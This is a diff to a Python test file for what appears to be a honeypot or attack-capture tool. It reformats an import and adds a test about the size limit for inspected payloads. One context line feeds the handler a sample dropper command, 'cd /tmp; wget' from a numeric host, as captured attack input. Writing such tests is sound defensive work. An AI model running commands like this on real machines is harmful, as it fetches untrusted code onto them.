@@ -9,7 +9,14 @@ from hypothesis import strategies as st
 from eudaemon.events.catalogue import ExploitRecognised, PayloadClassified
 from eudaemon.protocols._base import HalfClosed
 from eudaemon.protocols._signatures import HEAD_BYTES, ROWS, looks_like
-from eudaemon.protocols.catchall import DATAGRAMS_MAX, LINE_BYTES_MAX, LOOKS_MAX, PAYLOAD_BYTES_MAX, CatchAll
+from eudaemon.protocols.catchall import (
+    DATAGRAMS_MAX,
+    LINE_BYTES_MAX,
+    LOOK_BYTES_MAX,
+    LOOKS_MAX,
+    PAYLOAD_BYTES_MAX,
+    CatchAll,
+)
 from eudaemon.testing.script import Table, play, visit
 from eudaemon.wire import Purse
 
@@ -162,3 +169,11 @@ def test_what_came_is_looked_into_when_nothing_more_comes_but_not_for_ever() -> 
     typed.say(b"cd /tmp; wget http://198.51.100.7/x".ljust(HEAD_BYTES))
     typed.wait(3)
     assert typed.looks == []
+
+
+@pytest.mark.parametrize("past", [0, 1])
+def test_what_is_too_large_for_an_exploit_is_looked_into_when_it_is_kept(past: int) -> None:
+    talk = Table(CatchAll(visit())).open()
+    talk.say(b"\xde" * (LOOK_BYTES_MAX + past))
+    talk.wait(3)
+    assert len(talk.looks) == 1 - past
